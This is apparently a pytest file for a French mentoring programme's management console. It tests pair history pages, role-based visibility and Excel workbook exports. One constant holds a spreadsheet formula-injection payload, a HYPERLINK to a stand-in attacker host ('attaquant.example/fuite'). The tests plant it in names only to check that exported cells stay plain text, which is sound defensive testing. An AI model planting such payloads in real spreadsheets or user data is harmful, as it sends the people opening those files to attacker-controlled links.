"""A pair's history in the console (/gestion/cohortes/<code>/binomes/<id>), its workbook, and
the cohort's lists as workbooks: in time order, with their authors, as the viewer's role
lets them read it, in French, and never a formula in a cell."""

from __future__ import annotations

from datetime import datetime, timedelta
from io import BytesIO
from zoneinfo import ZoneInfo

from openpyxl import load_workbook
from sqlalchemy import select

from demo.simulation import setup_cohort
from mentorat.db import session_scope
from mentorat.mail.dates import as_utc
from mentorat.mail.typography import faults, visible_text
from mentorat.services import answers, console, fixes, operators, pairing
from models import (
    CharterVersion,
    CheckIn,
    Cohort,
    MatchingDecision,
    Operator,
    OutboxMessage,
    Pair,
    Person,
)
from tasks import checkins
from tests.conftest import START
from tests.support import phases
from tests.web.pages import text_of
from tests.web.test_console import DELPHINE, PAUL, SERGE, add, code_of, section, sign_in
from tests.web.world import World, deliver_pending

PARIS = ZoneInfo("Europe/Paris")
HELP = "Nous n’arrivons pas à nous voir depuis la mutation."
FORMULA = '=HYPERLINK("https://attaquant.example/fuite","Cliquez")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def active_pair(world: World) -> int:
    with session_scope(world.settings.database_url) as session:
        pair_id = session.scalar(
            select(Pair.id)
            .where(Pair.cohort_id == world.cohort_id, Pair.status == "active")
            .order_by(Pair.id)
        )
        assert pair_id is not None
        return pair_id


def operator_id(world: World, email: str) -> int:
    with session_scope(world.settings.database_url) as session:
        number = session.scalar(select(Operator.id).where(Operator.email == email))
        assert number is not None
        return number


def ask_for_help(world: World, pair_id: int, now: datetime) -> tuple[int, str]:
    """The pair's mentor answers month 1: met twice, and asks for help (check-in id, name)."""
    with session_scope(world.settings.database_url) as session:
        pair = session.get(Pair, pair_id)
        assert pair is not None
        row = session.scalar(
            select(CheckIn).where(
                CheckIn.pair_id == pair_id,
                CheckIn.application_id == pair.mentor_application_id,
                CheckIn.month == 1,
            )
        )
        assert row is not None
        answers.record_checkin(
            session, row.id, met=True, meetings=2, format="remote", mood=4, channel="web",
            now=now, need_help=True, help_message=HELP,
        )  # fmt: skip
        person = pair.mentor.person
        return row.id, f"{person.first_name} {person.last_name}"


def page_of(client, world: World, pair_id: int) -> str:  # type: ignore[no-untyped-def]
    answer = client.get(f"/gestion/cohortes/{code_of(world)}/binomes/{pair_id}")
    assert answer.status_code == 200
    assert answer.text.count("<h1") == 1
    return answer.text


def rows_of(content: bytes) -> list[tuple[object, ...]]:
    sheet = load_workbook(BytesIO(content)).active
    assert sheet is not None
    return list(sheet.iter_rows(values_only=True))


def cells_of(content: bytes):  # type: ignore[no-untyped-def]
    sheet = load_workbook(BytesIO(content)).active
    assert sheet is not None
    return [cell for row in sheet.iter_rows() for cell in row]


# --- the page -------------------------------------------------------------------------------


def test_a_pairs_history_tells_its_story_in_time_order_with_its_authors(
    world, settings, smtp, client, clock
):
    add(settings, DELPHINE, "mirhe", "operator", "Delphine Roux")
    delphine = operator_id(world, DELPHINE)
    pair_id = active_pair(world)
    (mentor_app, mentor_person, *_), (mentee_app, mentee_person_id, *_) = world.pair_members(
        pair_id
    )
    _, mentor = ask_for_help(world, pair_id, clock.now())
    deliver_pending(settings)  # the introduction, the charter request, the check-in request
    with session_scope(settings.database_url) as session:
        cohort = session.get(Cohort, world.cohort_id)
        assert cohort is not None
        pairing.override(
            session, cohort, mentor_id=mentor_app, mentee_id=mentee_app, kind="forbid",
            actor=f"operator:id-{delphine}", reason="Même service depuis la mutation",
            now=clock.now() + timedelta(minutes=30),
        )  # fmt: skip
        mentee_person = session.get(Person, mentee_person_id)
        assert mentee_person is not None
        mentee_person.email_status = "failing"  # as the sender records a permanent refusal
        mentee = f"{mentee_person.first_name} {mentee_person.last_name}"
        fixes.end_pair(
            session, settings, pair_id, reason="Mutation de la mentorée",
            now=clock.now() + timedelta(hours=1), actor=f"operator:id-{delphine}",
        )  # fmt: skip
        version = session.scalar(
            select(CharterVersion.version).where(CharterVersion.id == cohort.charter_version_id)
        )
        intro = session.scalar(
            select(OutboxMessage).where(
                OutboxMessage.person_id == mentor_person,
                OutboxMessage.kind == "pair_introduction",
            )
        )
        assert intro is not None and intro.status == "sent"
        subject = intro.subject
        ended = session.scalar(
            select(OutboxMessage.subject).where(
                OutboxMessage.person_id == mentee_person_id, OutboxMessage.kind == "pair_ended"
            )
        )
        assert ended
    sign_in(client, settings, smtp, DELPHINE)
    html = page_of(client, world, pair_id)
    text = text_of(html)
    assert faults(visible_text(html)) == []
    story = [
        "Binôme proposé par l’appariement",
        f"Courriel à {mentor} : « {subject} » système envoyé le",
        f"Charte signée, version {version}",
        f"Réponse au point du 1er mois {mentor} rencontre : oui (2 fois), à distance, "
        "appréciation : 4/5, demande de l’aide",
        f"Binôme exclu de l’appariement Opérateur·rice n° {delphine} (Delphine Roux) "
        "raison : Même service depuis la mutation",
        f"Fin du binôme Opérateur·rice n° {delphine} (Delphine Roux) raison : Mutation de la "
        "mentorée",
        f"Courriel à {mentee} : « {ended} »",  # the end's notice, after the end
    ]
    places = [text.find(part) for part in story]
    assert -1 not in places, [part for part, at in zip(story, places, strict=True) if at < 0]
    assert places == sorted(places)  # in time order
    assert "terminé (fin décidée par l’équipe)" in text
    assert (
        "Proposition de binômes validée Opérateur·rice « test » raison : proposition relue" in text
    )
    # Each email with its own delivery status: the end's notice to the mentee's failing
    # address was never sent.
    assert f"Courriel à {mentee} : « {ended} » système non envoyé (adresse en échec)" in text
    # Never an email's body (the introduction's carries the charter link), and a help
    # message is the supervisor's alone.
    assert world.url(mentor_person, "charter", pair_id) not in html
    assert HELP not in html
    assert "Demande d’aide (point du 1er mois)" in text
    assert "avec un message, réservé à la ou au référent·e" in text


def test_the_cohort_page_links_each_pair_to_its_history(world, settings, smtp, client):
    add(settings, DELPHINE, "mirhe", "operator", "Delphine Roux")
    sign_in(client, settings, smtp, DELPHINE)
    code = code_of(world)
    page = client.get(f"/gestion/cohortes/{code}").text
    assert f'href="/gestion/cohortes/{code}/binomes/{world.unsigned_pair_id}"' in page
    assert f'href="/gestion/cohortes/{code}/listes/charte.xlsx"' in page
    pair_page = page_of(client, world, world.unsigned_pair_id)
    assert f'href="/gestion/cohortes/{code}/binomes/{world.unsigned_pair_id}/historique.xlsx"' in (
        pair_page
    )
    assert 'class="table-wrap"' in pair_page


def test_a_pair_formed_after_the_approval_says_who_formed_it_and_why(
    world, settings, smtp, client, clock
):
    add(settings, DELPHINE, "mirhe", "operator", "Delphine Roux")
    delphine = operator_id(world, DELPHINE)
    with session_scope(settings.database_url) as session:
        first, second = session.scalars(
            select(Pair)
            .where(Pair.cohort_id == world.cohort_id, Pair.status == "active")
            .order_by(Pair.id)
            .limit(2)
        ).all()
        mentor, mentee = first.mentor_application_id, second.mentee_application_id
        for pair in (first, second):
            fixes.end_pair(
                session, settings, pair.id, reason="Départ", now=clock.now(), actor="operator:cli"
            )
        new = fixes.re_pair(
            session, mentor, mentee, reason="Même région, objectifs proches",
            now=clock.now() + timedelta(hours=1), actor=f"operator:id-{delphine}",
        )  # fmt: skip
        session.flush()
        new_id = new.id
        decision = session.get(MatchingDecision, new.decision_id)
        assert decision is not None and decision.status == "manual"
    sign_in(client, settings, smtp, DELPHINE)
    text = text_of(page_of(client, world, new_id))
    assert (
        f"Binôme formé par l’équipe après la validation Opérateur·rice n° {delphine} "
        "(Delphine Roux) raison : Même région, objectifs proches ; score :"
    ) in text
    assert "formé par l’équipe après la validation" in text  # the summary
    assert "Binôme proposé par l’appariement" not in text
    # The earlier pairs' emails stay on their own pages.
    assert "Fin du binôme" not in text


# --- what a supervisor sees -------------------------------------------------------------------


def test_a_supervisor_sees_the_help_request_and_its_alert_but_no_email_nor_answer(
    world, settings, smtp, client, clock
):
    add(settings, SERGE, "mirhe", "supervisor", "Serge Leroy")
    add(settings, DELPHINE, "mirhe", "operator", "Delphine Roux")
    pair_id = active_pair(world)
    (_, mentor_person, *_), _ = world.pair_members(pair_id)
    _, mentor = ask_for_help(world, pair_id, clock.now())
    # The cohort's run tells the supervisor (escalation_help).
    phases.advance(settings, world.cohort_id, checkins, clock.now() + timedelta(minutes=5))
    with session_scope(settings.database_url) as session:
        alert = session.scalar(
            select(OutboxMessage).where(
                OutboxMessage.cohort_id == world.cohort_id, OutboxMessage.step == "escalation_help"
            )
        )
        intro = session.scalar(
            select(OutboxMessage.subject).where(
                OutboxMessage.person_id == mentor_person,
                OutboxMessage.kind == "pair_introduction",
            )
        )
        assert alert is not None and intro
        alert_subject = alert.subject
    sign_in(client, settings, smtp, SERGE)
    html = page_of(client, world, pair_id)
    text = text_of(html)
    assert HELP in text  # the help request's message is written for them
    assert f"Demande d’aide (point du 1er mois) {mentor}" in text
    assert "Alerte à la ou au référent·e : demande d’aide" in text
    assert intro not in text and alert_subject not in text
    for hidden in ("Courriel", "Charte signée", "Réponse au point", "Score", "rencontre :"):
        assert hidden not in text, hidden
    workbook = client.get(
        f"/gestion/cohortes/{code_of(world)}/binomes/{pair_id}/historique.xlsx"
    ).content
    values = " ".join(str(v) for row in rows_of(workbook) for v in row)
    assert HELP in values and intro not in values and "Charte signée" not in values

    # The team reads the alert's email and its status, not the message.
    client.cookies.clear()
    sign_in(client, settings, smtp, DELPHINE)
    team = text_of(page_of(client, world, pair_id))
    assert alert_subject in team and HELP not in team and intro in team


def test_a_supervisor_exports_the_help_requests_with_their_messages_but_not_the_addresses(
    world, settings, smtp, client, clock
):
    add(settings, SERGE, "mirhe", "supervisor", "Serge Leroy")
    ask_for_help(world, active_pair(world), clock.now())
    sign_in(client, settings, smtp, SERGE)
    code = code_of(world)
    rows = rows_of(client.get(f"/gestion/cohortes/{code}/listes/aide.xlsx").content)
    assert rows[0] == ("Nom", "Rôle", "Binôme", "Mois", "Demandée le", "Message")
    assert rows[1][5] == HELP
    assert client.get(f"/gestion/cohortes/{code}/listes/adresses.xlsx").status_code == 404


# --- the workbooks ----------------------------------------------------------------------------


def test_the_history_workbook_has_french_headers_and_real_paris_dates(
    world, settings, smtp, client
):
    add(settings, DELPHINE, "mirhe", "operator", "Delphine Roux")
    pair_id = active_pair(world)
    sign_in(client, settings, smtp, DELPHINE)
    answer = client.get(f"/gestion/cohortes/{code_of(world)}/binomes/{pair_id}/historique.xlsx")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == XLSX
    assert "attachment" in answer.headers["content-disposition"]
    rows = rows_of(answer.content)
    assert rows[0] == ("Date", "Type", "Événement", "Auteur", "Détails")
    cells = cells_of(answer.content)
    first_date = cells[5]
    assert isinstance(first_date.value, datetime)
    assert first_date.number_format == "dd/mm/yyyy hh:mm"
    with session_scope(settings.database_url) as session:
        pair = session.get(Pair, pair_id)
        assert pair is not None
        created = as_utc(pair.created_at).astimezone(PARIS).replace(tzinfo=None)
    proposal = [row for row in rows if row[2] == "Binôme proposé par l’appariement"]
    assert len(proposal) == 1 and proposal[0][0] == created
    dates = [row[0] for row in rows[1:]]
    assert all(isinstance(d, datetime) for d in dates) and dates == sorted(dates)  # type: ignore[type-var]


def test_a_name_that_is_a_formula_stays_text_in_every_workbook(world, settings, smtp, client):
    add(settings, DELPHINE, "mirhe", "operator", "Delphine Roux")
    (mentor_app, *_), _ = world.pair_members(world.unsigned_pair_id)
    with session_scope(settings.database_url) as session:
        pair = session.get(Pair, world.unsigned_pair_id)
        assert pair is not None
        for app in (pair.mentor, pair.mentee):
            app.person.first_name, app.person.last_name = FORMULA, FORMULA
        # The mentor signs (the history names them as its author); the mentee stays listed.
        answers.sign_pair_charter(
            session, pair.id, mentor_app, signed_name=FORMULA, channel="web",
            now=world.checkins_due_at,
        )  # fmt: skip
    name = f"{FORMULA} {FORMULA}"
    sign_in(client, settings, smtp, DELPHINE)
    code = code_of(world)
    for path in (
        f"/gestion/cohortes/{code}/listes/charte.xlsx",
        f"/gestion/cohortes/{code}/binomes/{world.unsigned_pair_id}/historique.xlsx",
    ):
        answer = client.get(path)
        assert answer.status_code == 200, path
        cells = cells_of(answer.content)
        assert all(c.data_type != "f" for c in cells), path
        assert not [c.value for c in cells if str(c.value or "").startswith(("=", "+", "-", "@"))]
        assert "'" + name in [c.value for c in cells], path


def test_each_list_exports_the_people_the_page_lists(world, settings, smtp, client, clock):
    add(settings, DELPHINE, "mirhe", "operator", "Delphine Roux")
    _, bounced_id, b_first, b_last = world.pair_members(world.unsigned_pair_id)[1]
    ask_for_help(world, active_pair(world), clock.now())
    with session_scope(settings.database_url) as session:
        person = session.get(Person, bounced_id)
        assert person is not None
        person.email_status, person.email_error = "failing", "550 5.1.1 boîte inconnue"
    clock.set(world.checkins_close_at + timedelta(hours=1))
    sign_in(client, settings, smtp, DELPHINE)
    code = code_of(world)
    page = client.get(f"/gestion/cohortes/{code}").text
    with session_scope(settings.database_url) as session:
        cohort = session.get(Cohort, world.cohort_id)
        assert cohort is not None
        viewer = operators.Viewer(1, DELPHINE, "Delphine Roux", "operator", cohort.programme_id)
        lists = console.attention(session, cohort, viewer, clock.now())
        approved_at = as_utc(world.approved_at).astimezone(PARIS).replace(tzinfo=None)
        month_closes = as_utc(world.checkins_close_at).astimezone(PARIS).replace(tzinfo=None)
    expected = {
        "charte": (
            ["Nom", "Rôle", "Binôme", "Binôme validé le", "Échéance de la charte"],
            lists.unsigned_charter,
        ),
        "points-manques": (["Nom", "Rôle", "Binôme", "Mois", "Clos le"], lists.missed_checkins),
        "aide": (["Nom", "Rôle", "Binôme", "Mois", "Demandée le"], lists.asked_for_help),
    }
    for name, (headers, people) in expected.items():
        assert f'href="/gestion/cohortes/{code}/listes/{name}.xlsx"' in page
        rows = rows_of(client.get(f"/gestion/cohortes/{code}/listes/{name}.xlsx").content)
        assert list(rows[0]) == [*headers, "Adresse électronique"], name
        assert [row[0] for row in rows[1:]] == [p.name for p in people], name
        assert people and all(p.name in section(page, name) for p in people)
        assert all(isinstance(row[3 if name == "charte" else 4], datetime) for row in rows[1:])
    charter_rows = rows_of(client.get(f"/gestion/cohortes/{code}/listes/charte.xlsx").content)
    assert charter_rows[1][3] == approved_at
    missed = rows_of(client.get(f"/gestion/cohortes/{code}/listes/points-manques.xlsx").content)
    assert missed[1][3] == 1 and missed[1][4] == month_closes
    rows = rows_of(client.get(f"/gestion/cohortes/{code}/listes/adresses.xlsx").content)
    assert rows == [
        ("Nom", "Adresse en échec", "Motif du refus", "Courriels non remis"),
        (f"{b_first} {b_last}", rows[1][1], "550 5.1.1 boîte inconnue", rows[1][3]),
    ]
    assert "@" in str(rows[1][1])
    assert client.get(f"/gestion/cohortes/{code}/listes/inconnue.xlsx").status_code == 404


# --- who may read ---------------------------------------------------------------------------


def test_no_history_nor_workbook_without_a_session(world, client):
    code = code_of(world)
    for path in (
        f"/gestion/cohortes/{code}/binomes/{world.unsigned_pair_id}",
        f"/gestion/cohortes/{code}/binomes/{world.unsigned_pair_id}/historique.xlsx",
        f"/gestion/cohortes/{code}/listes/charte.xlsx",
        f"/gestion/cohortes/{code}/listes/adresses.xlsx",
    ):
        answer = client.get(path, follow_redirects=False)
        assert answer.status_code == 303, path
        assert answer.headers["location"] == "/gestion/connexion"


def test_a_pair_of_another_programmes_cohort_is_not_found(world, settings, smtp, client):
    setup_cohort(settings, programme="jaae", pairs=2, opens_at=START, code="JAAE-AUTRE")
    add(settings, PAUL, "jaae", "operator", "Paul Henry")
    sign_in(client, settings, smtp, PAUL)
    pair = world.unsigned_pair_id
    for code in (code_of(world), "JAAE-AUTRE"):
        for path in (
            f"/gestion/cohortes/{code}/binomes/{pair}",
            f"/gestion/cohortes/{code}/binomes/{pair}/historique.xlsx",
        ):
            answer = client.get(path)
            assert answer.status_code == 404, path
            assert "Binôme" not in answer.text
    assert client.get(f"/gestion/cohortes/{code_of(world)}/listes/charte.xlsx").status_code == 404
    assert client.get("/gestion/cohortes/JAAE-AUTRE/listes/charte.xlsx").status_code == 200
    assert client.get("/gestion/cohortes/JAAE-AUTRE/binomes/nouveau").status_code == 404
